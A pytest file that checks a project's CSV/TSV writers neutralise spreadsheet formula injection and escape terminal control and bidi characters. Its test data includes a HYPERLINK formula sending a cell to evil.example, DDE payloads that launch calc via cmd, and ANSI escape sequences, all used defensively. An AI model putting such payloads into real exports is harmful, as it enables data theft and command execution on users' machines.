"""Every CSV/TSV the project writes shows a formula-looking cell as text: the shared
rule (cityrdf.fs.csvsafe) and each writer that uses it."""

import csv
import datetime as dt
import io

import pyoxigraph as ox
import pytest

from cityrdf import compare, query
from cityrdf.fs import csvsafe
from cityrdf.links.mapping_set import sssom_table
from cityrdf.links.model import Candidate, Decision, Place
from cityrdf.links.review import review_table

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain text after a tab",
]
HARMLESS = ["Tehran", "تهران", "-3", "+98", "1.5e3", "", "a=b", "https://example.org/x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_made_text(text):
    assert csvsafe.is_formula(text)
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_are_kept_as_they_are(text):
    assert not csvsafe.is_formula(text)
    assert csvsafe.cell(text) == text


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def answer_of(*rows: tuple[str, ox.Literal]) -> query.Answer:
    """The answer of the embedded store to a query over `rows` (subject IRI, label)."""
    store = ox.Store()
    label = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
    for iri, literal in rows:
        store.add(ox.Quad(ox.NamedNode(iri), label, literal))
    return query.Answer.of(
        store.query(
            f"SELECT ?partner ?label WHERE {{ ?partner <{label.value}> ?label }} ORDER BY ?partner"
        )
    )


def test_query_csv_answers_escape_formula_cells():
    answer = answer_of(
        ("https://w3id.org/cityrdf/id/city/x", ox.Literal("=cmd|' /C calc'!A0", language="en")),
        ("https://w3id.org/cityrdf/id/city/y", ox.Literal("-3")),
    )
    rows = cells(query.to_csv(answer))
    assert rows[1] == ["https://w3id.org/cityrdf/id/city/x", "'=cmd|' /C calc'!A0"]
    assert rows[2] == ["https://w3id.org/cityrdf/id/city/y", "-3"]


def hostile_decisions(accepted: bool) -> list[Decision]:
    place = Place("https://w3id.org/cityrdf/id/city/x", "city", label_en="=Evil()")
    candidate = Candidate(
        place.iri,
        "wikidata",
        "http://www.wikidata.org/entity/Q1",
        "@SUM(1)",
        0.9,
        "semapv:LexicalMatching",
        "test",
        ["+label match"],
    )
    return [
        Decision(
            place,
            "wikidata",
            candidate if accepted else None,
            [candidate],
            "" if accepted else "low",
        )
    ]


def test_link_review_csv_escapes_formula_cells():
    rows = cells(review_table(hostile_decisions(accepted=False)))
    row = dict(zip(rows[0], rows[1]))
    assert (row["place_label"], row["candidate_label"], row["evidence"]) == (
        "'=Evil()",
        "'@SUM(1)",
        "'+label match",
    )


def test_sssom_tsv_escapes_formula_labels():
    text = sssom_table(hostile_decisions(accepted=True), dt.date(2026, 1, 1))
    table = [line for line in text.splitlines() if not line.startswith("#")]
    rows = cells("\n".join(table), delimiter="\t")
    row = dict(zip(rows[0], rows[1]))
    assert (row["subject_label"], row["object_label"], row["comment"]) == (
        "'=Evil()",
        "'@SUM(1)",
        "'+label match",
    )


def test_comparison_csv_escapes_formula_cells():
    row = compare.Row("paper only", ("Q1", "Q2"), ("=1+1", "-Berlin"), agreement="@x")
    rows = cells(compare.to_csv([row]))
    assert rows[1][1] == "'=1+1" and rows[1][3] == "'-Berlin" and rows[1][5] == "'@x"


def hostile_suggestion():
    from cityrdf.opportunities.suggest import Suggestion

    return Suggestion(
        1,
        "http://www.wikidata.org/entity/Q1",
        '=HYPERLINK("http://evil.example")\x1b]0;owned\x07',
        None,
        "@SUM(1)\u202e",
        0.5,
        [],
        ["-2+3"],
    )


def test_opportunities_csv_escapes_formula_cells():
    from cityrdf.opportunities.command import render

    rows = cells(render([hostile_suggestion()], "csv", "Tehran", {}))
    row = dict(zip(rows[0], rows[1]))
    assert row["labelEn"].startswith("'=HYPERLINK")
    assert row["country"].startswith("'@SUM") and row["evidence"] == "'-2+3"


def test_opportunities_text_shows_escape_sequences_and_bidi_overrides_escaped():
    from cityrdf.opportunities.command import render

    text = render([hostile_suggestion()], "text", "Teh\x1b[2Jran", {})
    assert not any(ch in text for ch in "\x1b\x07\u202e")
    assert "\\x1b]0;owned\\x07" in text and "\\u202e" in text and "Teh\\x1b[2Jran" in text


def test_a_dict_writer_refuses_a_field_it_was_not_given():
    with pytest.raises(ValueError, match="not in fieldnames: b"):
        csvsafe.dict_writer(io.StringIO(), ["a"]).writerow({"a": 1, "b": 2})


def test_no_module_but_csvsafe_makes_a_csv_writer():
    import re
    from pathlib import Path

    import cityrdf

    package = Path(cityrdf.__file__).parent
    makers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        f"{path.relative_to(package)}:{n}"
        for path in package.rglob("*.py")
        if path.name != "csvsafe.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if makers.search(line)
    ]
    assert found == []


def test_a_whole_table_reads_back_with_every_formula_cell_made_text():
    text = csvsafe.table(["=name", "n"], [["=1+1", 3], ["plain", "@x"]], delimiter="\t")
    assert list(csv.reader(io.StringIO(text), delimiter="\t")) == [
        ["'=name", "n"],
        ["'=1+1", "3"],
        ["plain", "'@x"],
    ]
